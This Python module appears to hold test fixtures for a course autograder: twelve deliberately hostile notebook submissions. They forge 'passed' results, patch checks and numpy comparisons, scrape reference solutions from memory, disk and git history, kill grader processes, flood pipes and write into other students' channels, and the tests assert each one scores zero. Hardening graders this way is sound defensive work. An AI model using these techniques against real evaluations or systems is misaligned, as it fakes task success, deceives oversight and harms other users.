"""Submissions that try to get points without solving anything: one per attack route.

Each is lab 00's student notebook (no exercise solved) with one extra code cell that the
grader's worker runs while loading definitions: a class body runs its statements, so it is
the usual way in. Some also replace the stubs with functions that return garbage or lying
objects, so that the visible checks (which run in the same process) can be fooled: only the
trusted comparison stands between them and the points. ``tests/test_grading_attacks.py``
grades them all, with honest submissions in the same run, and asserts every attack scores 0.
"""

from __future__ import annotations

# Lab 00's exercises and the names the student defines.
NAMES = ["discounted_return", "policy_evaluation", "value_iteration", "greedy_policy"]

GARBAGE = '''
def discounted_return(rewards, gamma):
    return 0.0

def policy_evaluation(P, R, policy, gamma, tol=1e-10):
    return np.zeros(P.shape[0])

def value_iteration(P, R, gamma, tol=1e-10):
    return np.zeros(P.shape[0]), np.zeros(P.shape[:2])

def greedy_policy(Q):
    return np.zeros(len(Q), dtype=int)
'''

ATTACKS: dict[str, str] = {}

# 1. Replace the check registry, the scenarios and the worker's own functions from a class
#    body, so that every check "passes" and the scenarios return anything.
ATTACKS["registry"] = GARBAGE + '''
class Forge:
    import dqn_helpers.checks as checks_
    import dqn_helpers.grading.scenarios as scenarios_
    import dqn_helpers.grading.worker as worker_

    def passes(*args, **kwargs):
        print("\\u2714 Exercise passed")

    for name_ in list(checks_.REGISTRY):
        checks_.REGISTRY[name_] = passes
    for scenario_ in checks_.SCENARIOS.values():
        scenario_.run = passes
    worker_._outcome = lambda exercise, run, timeout, memory_mb: (
        "passed", "\\u2714 Exercise " + exercise + " passed.")
    scenarios_.run_cases = lambda scenario, cases, definitions: [0.0 for case in cases]
'''

# 2. Write "passed" events and made-up results to every file descriptor the worker inherited
#    (one of them is its channel to the grader), before the worker reports.
ATTACKS["inherited_fd"] = '''
class Forge:
    import json as json_
    import os as os_

    for fd_ in range(3, 64):
        for exercise_ in ["0.1", "0.2", "0.3", "0.4"]:
            for event_ in [{"event": "results", "exercise": exercise_, "results": [0.0] * 13},
                           {"event": "done", "exercise": exercise_, "status": "passed",
                            "feedback": "\\u2714 Exercise " + exercise_ + " passed."}]:
                try:
                    os_.write(fd_, (json_.dumps(event_) + "\\n").encode())
                except OSError:
                    pass
'''

# 3. Look for the reference solution in the worker's memory (the old grader preloaded it) and
#    on every disk the worker can see (solution notebooks, other checkouts, clones), and take
#    its definitions as our own.
ATTACKS["steal_reference"] = '''
class Steal:
    import gc as gc_
    import os as os_
    import sys as sys_

    wanted_ = {"discounted_return", "policy_evaluation", "value_iteration", "greedy_policy"}
    found_ = {}
    for object_ in gc_.get_objects():
        if callable(object_) and getattr(object_, "__name__", "") in wanted_ \\
                and getattr(object_, "__module__", "") != __name__:
            found_[object_.__name__] = object_
    import dqn_helpers as package_
    roots_ = ["/", "/work", "/root", "/home", "/tmp", "/srv", "/opt",
              os_.path.dirname(os_.path.dirname(package_.__file__))]
    for root_ in roots_:
        for folder_, dirs_, files_ in os_.walk(root_):
            if folder_.startswith(("/usr", "/proc", "/sys", "/dev", "/lib", "/etc")) \\
                    or folder_.count("/") > 6:
                dirs_[:] = []
                continue
            for file_ in files_:
                if file_.startswith("00_") and file_.endswith(".ipynb"):
                    try:
                        from dqn_helpers.notebook import load_definitions
                        loaded_ = load_definitions(os_.path.join(folder_, file_))
                        for key_ in wanted_:
                            try:
                                loaded_[key_]([1.0], 0.5) if key_ == "discounted_return" else None
                                found_[key_] = loaded_[key_]
                            except Exception:
                                pass
                    except Exception:
                        pass
    globals().update(found_)
'''

# 4. Read the solution from the checkout's git history (the sandbox used to hide only the
#    solutions folder), and carry it out in an exception message, i.e. in the feedback.
ATTACKS["git_history"] = '''
def discounted_return(rewards, gamma):
    import os
    import subprocess

    import dqn_helpers
    checkout = os.path.dirname(os.path.dirname(dqn_helpers.__file__))
    shown = []
    for command in (["git", "-C", checkout, "log", "--oneline", "-1"],
                    ["git", "-C", checkout, "show", "HEAD:solutions/00_mdp_basics.ipynb"]):
        try:
            shown.append(subprocess.run(command, capture_output=True, text=True,
                                        timeout=5).stdout)
        except Exception as error:
            shown.append(repr(error))
    for path in [os.path.join(checkout, "solutions", "00_mdp_basics.ipynb"),
                 os.path.join(checkout, ".git", "HEAD")]:
        try:
            shown.append(open(path).read())
        except OSError as error:
            shown.append(repr(error))
    raise RuntimeError("".join(shown)[:3000])
'''

# 5. Print result-shaped text to stdout and stderr: "passed" lines and JSON events.
ATTACKS["stdout"] = GARBAGE + '''
class Shout:
    import json as json_
    import sys as sys_

    for exercise_ in ["0.1", "0.2", "0.3", "0.4"]:
        for stream_ in (sys_.stdout, sys_.stderr, sys_.__stdout__, sys_.__stderr__):
            print("\\u2714 Exercise " + exercise_ + " passed.", file=stream_)
            print(json_.dumps({"event": "done", "exercise": exercise_, "status": "passed",
                               "feedback": "ok"}), file=stream_)
'''

# 6. Signal or kill the parent and every grading process it can find.
ATTACKS["kill_parent"] = '''
class Kill:
    import os as os_
    import signal as signal_

    for pid_ in {os_.getppid(), 1}:
        for signal_number_ in (signal_.SIGTERM, signal_.SIGKILL):
            try:
                os_.kill(pid_, signal_number_)
            except OSError:
                pass
    for entry_ in os_.listdir("/proc"):
        if entry_.isdigit() and int(entry_) != os_.getpid():
            try:
                with open(f"/proc/{entry_}/cmdline", "rb") as handle_:
                    line_ = handle_.read()
                if b"dqn_helpers.grading" in line_:
                    os_.kill(int(entry_), signal_.SIGKILL)
            except OSError:
                pass
'''

# 7. Fill the pipes: 100 MB without a newline to every inherited descriptor, then stdout.
ATTACKS["fill_pipes"] = '''
class Flood:
    import os as os_

    chunk_ = b"x" * (1 << 20)
    for fd_ in range(3, 32):
        try:
            for _ in range(100):
                os_.write(fd_, chunk_)
        except OSError:
            pass
'''

# 8. Monkeypatch the NumPy and torch functions that comparisons use, so that every visible
#    check in this process passes on garbage.
ATTACKS["monkeypatch"] = GARBAGE + '''
class Patch:
    import numpy as np_
    import torch as torch_

    def always(*args, **kwargs):
        return True

    np_.allclose = always
    np_.isclose = always
    np_.array_equal = always
    np_.testing.assert_allclose = always
    torch_.allclose = always
    torch_.equal = always
'''

# 9. Return objects that lie: equal to everything, any float, any array.
ATTACKS["lying_objects"] = '''
class Liar(float):
    def __new__(cls, *args):
        return super().__new__(cls, 0.0)

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __float__(self):
        return 0.0

    def __array__(self, dtype=None, copy=None):
        return np.zeros(4)

    def __len__(self):
        return 4

    def __iter__(self):
        return iter([Liar(), Liar()])

    def __getitem__(self, key):
        return Liar()

    __hash__ = float.__hash__


def discounted_return(rewards, gamma):
    return Liar()

def policy_evaluation(P, R, policy, gamma, tol=1e-10):
    return Liar()

def value_iteration(P, R, gamma, tol=1e-10):
    return Liar(), Liar()

def greedy_policy(Q):
    return Liar()
'''

# 10. Very large outputs: fool the visible checks, then return 400 MB from every run.
ATTACKS["huge_output"] = GARBAGE + '''
class Forge:
    import dqn_helpers.checks as checks_

    def passes(*args, **kwargs):
        print("\\u2714 Exercise passed")

    for name_ in list(checks_.REGISTRY):
        checks_.REGISTRY[name_] = passes
    for scenario_ in checks_.SCENARIOS.values():
        scenario_.run = lambda case, *definitions: np.zeros(10**8, np.float32)
'''

# 11. Malformed and hostile events on the inherited descriptors: not JSON, wrong types,
#     nesting deep enough to break a recursive parser, another exercise's results.
ATTACKS["malformed_events"] = '''
class Garble:
    import os as os_

    lines_ = [b"not json\\n", b'{"event": "statements", "items": [["x", 1]]}\\n',
              b'{"event": "done", "exercise": ["0.1"], "status": {"a": 1}}\\n',
              b'{"event": "results", "exercise": "0.1", "results": ' + b"[" * 100000
              + b"]" * 100000 + b"}\\n",
              b'{"event": "results", "exercise": "0.1", "results": [{"$array": ["object", '
              b'[1], "AA=="]}]}\\n',
              b'{"event": "ready", "protections": 12}\\n', b"[1, 2, 3]\\n"]
    for fd_ in range(3, 64):
        for line_ in lines_:
            try:
                os_.write(fd_, line_)
            except OSError:
                pass
'''

# 12. Write forged events into the channels of the other submissions being graded.
ATTACKS["other_channels"] = '''
class Reach:
    import glob as glob_
    import json as json_
    import os as os_

    for path_ in glob_.glob("/tmp/dqn-grade-*/events*") + glob_.glob("/tmp/*/events*"):
        try:
            fd_ = os_.open(path_, os_.O_WRONLY | os_.O_NONBLOCK)
            for exercise_ in ["0.1", "0.2", "0.3", "0.4"]:
                os_.write(fd_, (json_.dumps({"event": "done", "exercise": exercise_,
                                             "status": "failed", "feedback": "forged"})
                                + "\\n").encode())
            os_.close(fd_)
        except OSError:
            pass
'''
